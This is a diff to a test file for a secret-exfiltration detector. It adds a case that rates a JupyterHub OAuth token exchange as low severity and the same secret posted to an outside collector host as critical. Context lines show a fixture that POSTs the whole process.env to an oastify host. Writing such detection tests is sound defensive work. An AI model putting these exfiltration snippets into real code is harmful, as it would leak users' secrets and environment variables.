@@ -68,6 +68,25 @@ describe('code/exfiltration', () => {
     ).toEqual(['critical']);
   });
 
+  it("is low when the secret goes to a path of the client's own service (jupyterhub's OAuth example, a tree)", () => {
+    // jupyterhub@2841153db6c1 examples/service-fastapi/app/service.py: the OAuth code exchange at the hub's /oauth2/token.
+    const oauth = [
+      'async with get_client() as client:',
+      '    data = {',
+      '        "client_id": os.environ["JUPYTERHUB_CLIENT_ID"],',
+      '        "client_secret": os.environ["JUPYTERHUB_API_TOKEN"],',
+      '        "code": code,',
+      '    }',
+      '    resp = await client.post("/oauth2/token", data=data)'
+    ].join('\n');
+    expect(severities(file('examples/service-fastapi/app/service.py', oauth), 'code/exfiltration')).toEqual(['low']);
+    // The same secret to a URL, or to a protocol-relative host, is still critical.
+    const out = oauth.replace('"/oauth2/token"', '"https://collect.example.net/t"');
+    expect(severities(file('pkg/s.py', out), 'code/exfiltration')).toEqual(['critical']);
+    const scheme = oauth.replace('"/oauth2/token"', '"//collect.example.net/t"');
+    expect(severities(file('pkg/s.py', scheme), 'code/exfiltration')).toEqual(['critical']);
+  });
+
   it('fires when the whole environment is sent (npm)', () => {
     const js =
       "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'x.oastify.com', method: 'POST' });\nreq.write(body);";
